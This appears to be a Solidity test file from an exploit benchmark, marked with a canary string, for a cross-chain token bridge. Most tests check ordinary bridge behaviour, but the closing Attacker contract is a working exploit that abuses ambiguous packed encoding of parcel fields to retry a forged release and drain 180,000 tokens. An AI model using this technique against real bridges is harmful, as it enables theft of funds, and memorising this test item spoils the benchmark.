// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./ParcelBridge.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-d11e7352-f032-4af8-b4f0-018c4b852b6d

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Gold is ERC20 {
    constructor() ERC20("Gold", "GLD") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Letterbox is IParcelReceiver {
    address private owner;
    bool public open;
    uint256 public letters;

    constructor() {
        owner = msg.sender;
    }

    function setOpen(bool open_) external {
        require(msg.sender == owner, "not yours");
        open = open_;
    }

    function onParcel(uint256, bytes calldata, bytes calldata) external {
        require(open, "shut");
        letters += 1;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x0E);
    address private constant NOTARY = address(0x07A);
    address private constant IDA = address(0x1DA);
    uint256 private constant START = 1_779_300_000;
    bytes private constant VAULT = hex"a11ce0000000000000000000000000000000000000000000000000000000b0b5";
    bytes private constant SOMEBODY = hex"5005000000000000000000000000000000000001";
    uint256 private constant TAKEN = 180_000e18;

    Gold private gold;
    ParcelBridge private bridge;
    Letterbox private box;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        gold = new Gold();
        bridge = new ParcelBridge(gold, OWNER, NOTARY, 200_000e18);
        box = new Letterbox();
        vm.prank(OWNER);
        bridge.setVault(7, VAULT);
        gold.approve(address(bridge), type(uint256).max);
        bridge.send(7, SOMEBODY, 400_000e18);

        // a parcel that the attacker has sent from the other chain, with a recipient of odd length
        mallory = new Attacker(bridge, VAULT);
        _deliver(mallory.sent());
    }

    function _release(uint256 serial, address to, uint256 amount) private pure returns (ParcelBridge.Parcel memory) {
        return ParcelBridge.Parcel(7, serial, "", VAULT, abi.encode(to, amount));
    }

    function _letter(uint256 serial, address to) private pure returns (ParcelBridge.Parcel memory) {
        return ParcelBridge.Parcel(7, serial, abi.encodePacked(to), SOMEBODY, "hello");
    }

    function _deliver(ParcelBridge.Parcel memory parcel) private {
        vm.prank(NOTARY);
        bridge.deliver(parcel);
    }

    function test_Regular() public {
        _deliver(_release(2, IDA, 150_000e18));
        require(gold.balanceOf(IDA) == 150_000e18 && bridge.arrived(7, 2), "released");

        // over the limit of the day, tried again on the next
        ParcelBridge.Parcel memory parcel = _release(3, IDA, 60_000e18);
        _deliver(parcel);
        require(bridge.isWaiting(parcel) && gold.balanceOf(IDA) == 150_000e18, "waits");
        vm.warp(START + 1 days);
        bridge.retry(parcel);
        require(!bridge.isWaiting(parcel) && gold.balanceOf(IDA) == 210_000e18, "released later");
        require(bridge.releasedOn((START + 1 days) / 1 days) == 60_000e18, "counted");

        // letters
        parcel = _letter(4, address(box));
        _deliver(parcel);
        require(bridge.isWaiting(parcel) && box.letters() == 0, "shut");
        box.setOpen(true);
        bridge.retry(parcel);
        _deliver(_letter(5, address(box)));
        require(box.letters() == 2, "two letters");
        _deliver(_letter(6, IDA));
        require(bridge.isWaiting(_letter(6, IDA)) && bridge.arrived(7, 6), "nobody there");

        bridge.send(7, SOMEBODY, 10e18);
        require(gold.balanceOf(address(bridge)) == 190_010e18, "sent");
        vm.startPrank(OWNER);
        bridge.setDayLimit(5);
        bridge.setNotary(IDA);
        bridge.transferOwnership(IDA);
        vm.stopPrank();
        vm.prank(IDA);
        bridge.renounceOwnership();
        require(bridge.dayLimit() == 5 && bridge.notary() == IDA, "set");
    }

    function _notOwner() private pure returns (bytes memory) {
        return abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, NOTARY);
    }

    function test_RefusesOtherCallers() public {
        vm.startPrank(NOTARY);
        vm.expectRevert(_notOwner());
        bridge.setVault(7, "");
        vm.expectRevert(_notOwner());
        bridge.setNotary(NOTARY);
        vm.expectRevert(_notOwner());
        bridge.setDayLimit(1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(ParcelBridge.NotNotary.selector));
        bridge.deliver(_release(2, IDA, 1));
        vm.expectRevert("not for you");
        bridge.hand(_release(2, IDA, 1));
    }

    function test_RefusesParcels() public {
        _deliver(_release(2, IDA, 1));
        vm.startPrank(NOTARY);
        vm.expectRevert(abi.encodeWithSelector(ParcelBridge.Arrived.selector, 7, 2));
        bridge.deliver(_release(2, IDA, 1));
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(ParcelBridge.NotWaiting.selector, 7, 2));
        bridge.retry(_release(2, IDA, 1));
        vm.expectRevert("unknown chain");
        bridge.send(8, SOMEBODY, 1);
    }

    function test_RefusesReleasesOverTheLimit() public {
        _deliver(_release(2, IDA, 200_000e18 + 1));
        vm.expectRevert(abi.encodeWithSelector(ParcelBridge.OverLimit.selector, START / 1 days));
        bridge.retry(_release(2, IDA, 200_000e18 + 1));
    }

    function test_RefusesReceivers() public {
        _deliver(_letter(2, IDA));
        vm.expectRevert("no receiver");
        bridge.retry(_letter(2, IDA));
        box.setOpen(true);
        ParcelBridge.Parcel memory parcel = _letter(3, address(box));
        parcel.recipient = abi.encodePacked(address(box), "x");
        _deliver(parcel);
        vm.expectRevert("no receiver");
        bridge.retry(parcel);
    }

    function test_RefusesToBeCutShort() public {
        vm.prank(NOTARY);
        (bool ok, bytes memory reason) =
            address(bridge).call{gas: 120_000}(abi.encodeCall(ParcelBridge.deliver, (_release(2, IDA, 1))));
        require(!ok && keccak256(reason) == keccak256(abi.encodeWithSignature("Error(string)", "more gas")), "gas");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(gold.balanceOf(address(mallory)) >= TAKEN, "nothing gained");
    }

    function target() public view returns (address) {
        return address(bridge);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(gold);
    }
}

/// Hands its own parcel in again with the fields cut elsewhere: the recipient's bytes become a sender and a payload.
contract Attacker {
    ParcelBridge private bridge;
    bytes private vault;

    constructor(ParcelBridge bridge_, bytes memory vault_) {
        bridge = bridge_;
        vault = vault_;
    }

    function sent() external view returns (ParcelBridge.Parcel memory) {
        bytes memory recipient = abi.encodePacked(vault, abi.encode(address(this), 180_000e18));
        return ParcelBridge.Parcel(7, 1, recipient, hex"7e7e", "");
    }

    function run() external {
        bridge.retry(
            ParcelBridge.Parcel(7, 1, "", vault, abi.encodePacked(abi.encode(address(this), 180_000e18), hex"7e7e"))
        );
    }
}
